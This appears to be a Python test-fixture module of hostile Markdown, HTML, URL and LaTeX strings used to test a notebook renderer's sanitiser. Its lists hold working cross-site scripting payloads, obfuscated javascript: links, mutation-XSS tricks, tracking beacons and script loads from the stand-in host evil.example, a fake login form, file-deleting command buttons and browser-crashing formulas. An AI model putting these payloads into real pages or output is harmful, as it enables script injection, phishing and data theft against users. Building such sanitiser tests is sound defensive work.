r"""Markdown that a hostile or a tricked model might write.

Each payload would, if it got through, set `window.pwned` by itself or on a click, load something from `evil.example`,
restyle the page, or change what other formulas mean. Collected from the published sanitiser bypasses (OWASP, DOMPurify's
and marked's regression tests, MathJax's safe extension) and from the constructs our own renderer knows.
"""

from __future__ import annotations

from typing import Final

RUN: Final = "window.pwned=1"

SCRIPTS: Final = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    '<script src="https://evil.example/x.js"></script>',
    f"</div></div></script><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php ?><script>{RUN}</script>",
    f"text\n<script>\n\n{RUN}\n\n</script>",
    f"- item\n\n  <script>{RUN}</script>",
    f"> <script>{RUN}</script>",
    f"| a |\n|---|\n| <script>{RUN}</script> |",
    f"# <script>{RUN}</script>",
    f"\\<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
]

HANDLERS: Final = [
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f"<img/src=x/onerror={RUN}>",
    f'<IMG """><IMG SRC=x ONERROR="{RUN}">',
    f'<svg onload="{RUN}">',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click</text></a></svg>',
    f'<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:{RUN}">x</maction></math>',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<audio src=x onerror="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<div style="animation-name:x" onanimationstart="{RUN}">x</div>',
    f'<p onmouseover="{RUN}" onclick="{RUN}">hover</p>',
    f"<br\nonclick={RUN}>",
    f'<br/onclick="{RUN}">',
    '<button data-commandlinker-command="docmanager:delete-file" data-commandlinker-args="{}">x</button>',
    '<a data-commandlinker-command="kernelmenu:shutdown" href="https://ok.example">x</a>',
    '<div class="jp-Button" data-jp-command="terminal:create-new">x</div>',
    f'<script type="application/vnd.jupyter.widget-view+json">{{"model_id": "{RUN}"}}</script>',
    f'<xss contenteditable autofocus tabindex=1 onfocus="{RUN}" accesskey=x>x</xss>',
    f'<marquee onstart="{RUN}">x</marquee>',
    f'<p style="content-visibility:auto" oncontentvisibilityautostatechange="{RUN}">x</p>',
    "<div popover id=x>x</div><button popovertarget=x>x</button>",
]

LINKS: Final = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](java&Tab;script:{RUN})",
    f"[x](java&NewLine;script:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A;avascript&colon;{RUN})",
    f"[x](javascript&#x3A;{RUN})",
    f"[x](java\\script:{RUN})",
    f"[x](javascript\\:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]( javascript:{RUN} 'title')",
    f"[x](%6Aavascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[x][ref]\n\n[ref]: javascript:{RUN}",
    f"[x]\n\n[x]:\njavascript:{RUN}",
    f"> [x]\n>\n> [x]: <javascript:{RUN}>",
    f"<javascript:{RUN}>",
    f"<javascript&colon;{RUN}>",
    f'[x](https://ok.example "\\" onmouseover=\\"{RUN}")',
    f"[x](https://ok.example' onclick='{RUN})",
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="https://ok.example" onclick="{RUN}">x</a>',
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f'https://ok.example/"onclick="{RUN}',
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](/api/shutdown)",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example\\path)",
    "[x](vscode://file/etc/passwd)",
    "[x](ms-msdt:/id PCWDiagnostic)",
    "[x](attachment:evil.png)",
    '<a href="https://ok.example" ping="https://evil.example/ping">x</a>',
    '<a href="https://ok.example" download="x.exe" target="_parent">x</a>',
    '<a id="jupyter-config-data" name="jupyterapp">x</a>',
    f"[x](javascript://ok.example/%0A{RUN})",
    f"[\u202ex](\u200bjavascript:{RUN})",
    f'<https://ok.example/"onmouseover="{RUN}">',
]

BEACONS: Final = [
    "![x](https://evil.example/beacon.png?secret)",
    "![x](//evil.example/beacon.png)",
    "![x][b]\n\n[b]: https://evil.example/beacon.png",
    "![b]\n\n[b]: https://evil.example/beacon.png",
    '<img src="https://evil.example/beacon.png">',
    '<img srcset="https://evil.example/beacon.png 1x">',
    '<picture><source srcset="https://evil.example/beacon.png"><img></picture>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/x">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=key><button>Log in</button></form>',
    '<video poster="https://evil.example/p.png"></video>',
    '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)",
]

STYLES: Final = [
    "<style>body{display:none}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>",
    "<link rel=icon href=https://evil.example/favicon.ico>",
    "<div dir=rtl hidden inert>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:red">over everything</div>',
    '<div style="background:url(https://evil.example/b.png)">x</div>',
    '<p style="color:red;--x:url(https://evil.example/b.png)">x</p>',
    '<div class="jp-Dialog jp-mod-styled">fake dialog</div>',
    '<div id="jupyter-config-data">{"token":""}</div>',
    f'| <p style="position:fixed">a | b |\n|:--"onclick="{RUN}"|--:|\n| 1 | 2 |',
    '```python" onclick="window.pwned=1\nprint()\n```',
    '```"><script>window.pwned=1</script>\nx\n```',
    '~~~<img src=x onerror="window.pwned=1">\nx\n~~~',
    '```html\n<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "    <img src=x onerror=window.pwned=1>",
    "- ```\n  <img src=x onerror=window.pwned=1>\n  ```",
]

MUTATIONS: Final = [
    "$![x](https://evil.example/b.png)$",
    f"$$\n[x](javascript:{RUN})\n[y]: javascript:{RUN}\n$$",
    f"$$\nx\n$$ [x](javascript:{RUN}) <img src=x onerror={RUN}>",
    f"$$\nx\n$$ ![x](https://evil.example/b.png) <svg onload={RUN}> $$",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<select><template shadowrootmode=open><img src=x onerror={RUN}></template></select>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"a\u2028<img\u00a0src=x\u3000onerror={RUN}>",
    f"`` ` `` <img src=x onerror={RUN}> `",
    f"$`$<img src=x onerror={RUN}>`",
    f"$$\n<img src=x onerror={RUN}>\n$$",
    f"$<img src=x onerror={RUN}>$",
    f"\\(<img src=x onerror={RUN}>\\)",
    f"\\begin{{align}}\n<script>{RUN}</script>\n\\end{{align}}",
    f"$$ <script>{RUN}</script>",
]

FORMULAS: Final = [
    rf"$\href{{javascript:{RUN}}}{{click}}$",
    rf"\(\href{{javascript:{RUN}}}{{click}}\)",
    "$$\n" + rf"\href{{javascript:{RUN}}}{{click}}" + "\n$$",
    rf"$\unicode{{x}}\href{{data:text/html,<script>{RUN}</script>}}{{click}}$",
    r"$\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:red}{x}$",
    r"$\class{jp-Dialog}{x}$",
    r"$\cssId{main}{x}$",
    r"$\require{texhtml}\htmlData{onclick=alert(1)}{x}$",
    r"$\htmlStyle{background:url(https://evil.example/b.png)}{x}$",
    r"$\includegraphics{https://evil.example/beacon.png}$",
    r"$\gdef\frac#1#2{pwned}$",
    r"$\let\sum\int$",
    r"$\renewcommand{\alpha}{\beta}$",
    r"$\def\x{\x\x}\x$",
    r"$$\begin{align}\href{javascript:window.pwned=1}{x}\end{align}$$",
    "$x\\)$ <b>\\(\\href{javascript:window.pwned=1}{y}$",
    r"\$\href{javascript:window.pwned=1}{x}$",
    r"\\(\href{javascript:window.pwned=1}{x}\\)",
    r"\\(\\href{javascript:window.pwned=1}{x}\\)",
    r"$\text{$\href{javascript:window.pwned=1}{x}$}$",
    "$" + "{" * 400 + "}" * 400 + "$",
    "$"
    + r"\left(" * 100
    + "x"
    + r"\right)" * 100
    + "$",  # Chromium's page is gone, and again when it is reloaded
    "$" + r"\left(\begin{matrix}\sqrt{" * 60 + "x" + r"}\end{matrix}\right)" * 60 + "$",
    "$" + r"\tiny " * 200 + "x$",
    "$" + r"\color{red}" * 100 + "x$",
    r"$\rule{99999em}{99999em}$",
    r"$\hspace{ 1000.5 em}x\kern-9999pt$",
    r"$\setOptions{maxBuffer=1}\newcolumntype{c}{r}x$",
    "$x} \\left( {y$",
]

TEX: Final = [
    rf"$\href{{javascript:{RUN}}}{{click}}$ \(x\) \[x\] $$x$$",
    rf"\begin{{align}}\href{{javascript:{RUN}}}{{x}}\end{{align}}",
]
"""For places where nothing is ever typeset: names, titles, errors, data."""

HOSTILE: Final = [*SCRIPTS, *HANDLERS, *LINKS, *BEACONS, *STYLES, *MUTATIONS, *FORMULAS]
